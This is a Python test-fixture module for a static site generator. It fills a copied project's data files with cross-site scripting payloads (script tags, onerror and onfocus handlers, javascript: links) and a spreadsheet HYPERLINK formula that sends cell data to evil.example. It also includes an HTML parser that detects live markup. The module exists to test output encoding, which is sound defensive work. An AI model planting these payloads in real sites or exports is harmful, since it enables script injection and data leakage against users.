"""The hostile-input corpus: values a stranger's pull request can put into `data/`, and how to
check that an output stays inert.

`hostile_project(folder)` writes a project (the test fixture project) whose data carries these
payloads in every field that reaches a page, a feed, a badge, an image, the CSV or the search
index. All of them must validate, because the output encoders (generator/safe.py) are the
control; the tests then assert that nothing in the built site is live markup.
"""

from __future__ import annotations

import html.parser
import json
import shutil
from pathlib import Path

from generator.load import load_text

from .conftest import copy_project

# Each payload would run script (or add an attribute that runs script) if printed raw.
NAMES = {
    "attribute-break": 'Acme Chat"><img src=x onerror=alert(document.domain)>',
    "head-break": "Beta</title></head><body><script>alert(2)</script>",
    "single-quote": "Gamma' autofocus onfocus='alert(3)",
    "attr-list": "Delta {: tabindex=0 autofocus onfocus=alert(4) }",
}
CRITERION_TITLE = 'Monitoring"><svg onload=alert(5)>'
CRITERION_QUESTION = "Is it monitored?</title><script>alert(6)</script>"
FRAMEWORK_TITLE = "Detect {: tabindex=0 autofocus onfocus=alert(7) }"
FRAMEWORK_MEANING = "[click me](javascript:alert(8)) <img src=x onerror=alert(9)> {: onclick=alert(10) }"
SUMMARY = '=HYPERLINK("https://evil.example/?"&A1,"x") see [a](//evil.example/a) and [b](/\\evil.example/b)'
MARKERS = ["alert(", "onerror", "onfocus", "onload", "onclick", "javascript:"]


def _rewrite(path: Path, change) -> None:
    """Load a data file, change its mapping, write it back as JSON (valid YAML) under its modeline."""
    first = path.read_text(encoding="utf-8").partition("\n")[0]
    doc, problems = load_text(path.name, path.read_bytes())  # the project's YAML 1.2 reading, not PyYAML's 1.1
    assert doc is not None, problems
    data = doc.data
    change(data)
    path.write_text(first + "\n" + json.dumps(data, ensure_ascii=False, default=str, indent=1) + "\n", encoding="utf-8")


def hostile_project(folder: Path) -> Path:
    copy_project(folder)
    providers = folder / "data" / "providers"
    template = providers / "fixture-service.yaml"
    for key, name in NAMES.items():
        pid = f"hostile-{key}"

        def change(data, pid=pid, name=name):
            data["id"], data["name"], data["aliases"] = pid, name, []
            data["summary"] = SUMMARY
            for a in data.get("assessments") or []:
                for field in ("summary", "reason"):
                    if a.get(field):
                        a[field] = SUMMARY
                for src in a.get("sources") or []:
                    src["title"], src["publisher"] = name, name
            if pid == "hostile-attr-list":  # discontinued: its name is also printed in the home page's Markdown
                data["discontinued"] = {"since": "2026-06-30", "note": FRAMEWORK_MEANING, "successor": "hostile-attribute-break"}

        target = providers / f"{pid}.yaml"
        shutil.copy(template, target)
        _rewrite(target, change)

    def crit(data):
        data["title"], data["question"] = CRITERION_TITLE, CRITERION_QUESTION
        data["requirements"][0]["text"] = CRITERION_QUESTION  # shown on criterion and provider pages

    _rewrite(folder / "data" / "criteria" / "de-monitoring.yaml", crit)

    def framework(data):
        for f in data["functions"]:
            if f["id"] == "detect":
                f["title"], f["meaning"] = FRAMEWORK_TITLE, FRAMEWORK_MEANING
        for g in data["groups"]:
            g["nickname"] = g["nickname"] + " {: onclick=alert(11) }"
            g["meaning"] = FRAMEWORK_MEANING
        for a in data["asset_classes"]:
            a["title"] = a["title"] + " [x](javascript:alert(12))"

    _rewrite(folder / "data" / "framework.yaml", framework)
    return folder


class _Live(html.parser.HTMLParser):
    """Collects markup that could run script: event-handler attributes, autofocus, script elements
    without a same-site src, javascript: and protocol-relative links, images/svg/iframes from data."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.inline_scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "autofocus":
                self.live.append(f"<{tag} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction", "xlink:href") and (
                value.strip().lower().startswith(("javascript:", "data:text", "//", "/\\", "\\"))
            ):
                self.live.append(f"<{tag} {name}={value!r}>")
        if tag == "script" and not dict(attrs).get("src") and dict(attrs).get("type") != "application/json":
            self._in_script = True
            self.inline_scripts.append("")
        if tag == "script" and (dict(attrs).get("src") or "").startswith(("http:", "https:", "//")):
            self.live.append(f"<script src={dict(attrs)['src']!r}>")
        if tag in ("iframe", "object", "embed", "base", "frame") or (tag == "img" and dict(attrs).get("src") == "x"):
            self.live.append(f"<{tag}>")

    def handle_data(self, data):
        if self._in_script:
            self.inline_scripts[-1] += data

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False


def parse(text: str) -> _Live:
    parser = _Live()
    parser.feed(text)
    parser.close()
    return parser


def live_markup(text: str) -> list[str]:
    """Live markup in a page, except inline scripts (see `parse(...).inline_scripts`)."""
    return parse(text).live
